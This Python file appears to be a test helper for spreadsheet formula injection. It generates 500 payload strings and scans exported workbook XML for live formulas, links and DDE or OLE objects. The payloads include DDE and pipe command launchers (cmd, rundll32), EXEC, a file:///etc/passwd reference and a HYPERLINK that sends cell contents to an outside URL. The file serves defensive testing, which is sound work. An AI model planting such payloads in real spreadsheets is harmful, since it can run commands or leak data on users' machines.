"""Five hundred payloads that a spreadsheet would run, and what of them lives in an export."""

import io
import re
import zipfile
from collections.abc import Iterator
from itertools import product

BEGINNINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    '"=',
    "'=",
    "=\u200b",
    ";=",
    ",=",
    "%3D",
    "{=",
    "=-+",
    "|=",
    "=@",
    "\ufeff=",
)
CALLS = (
    "1+1",
    "SUM(1,1)",
    'HYPERLINK("https://example.org/?x="&A1,"x")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("https://example.org")',
    'IMPORTXML("https://example.org","//a")',
    'DDE("cmd";"/C calc";"x")',
    "MSEXCEL|'\\..\\..\\calc.exe'!''",
    'INDIRECT("A1")',
    'IMAGE("https://example.org/x.png")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    'EXEC("calc")',
    'REGISTER.ID("a","b")',
    'CALL("a","b")',
    'FILTERXML("<a/>","//a")',
    "LET(a,1,a)",
    "LAMBDA(x,x)(1)",
    "A1:A9",
    "2+5+cmd|' /C calc'!A0",
    "'file:///etc/passwd'#$x.A1",
    'IFERROR(1/0,HYPERLINK("x","y"))',
    'CELL("filename")',
    'INFO("osversion")',
    "\u202e1+1",
    "TODAY()",
)
LIVE = re.compile(rb"<f[ >]|<hyperlink|externalLink|<oleObject|ddeLink|definedName[^>]*>[^<]*!")


def payloads() -> list[str]:
    return [beginning + call for beginning, call in product(BEGINNINGS, CALLS)]


def live_cells(workbook: bytes) -> Iterator[str]:
    """What a spreadsheet program would compute, open or ask for."""
    if not zipfile.is_zipfile(io.BytesIO(workbook)):
        yield f"no workbook: {workbook[:60]!r}"
        return
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")) and (found := LIVE.search(archive.read(name))):
                yield f"{name}: {found.group(0)!r}"
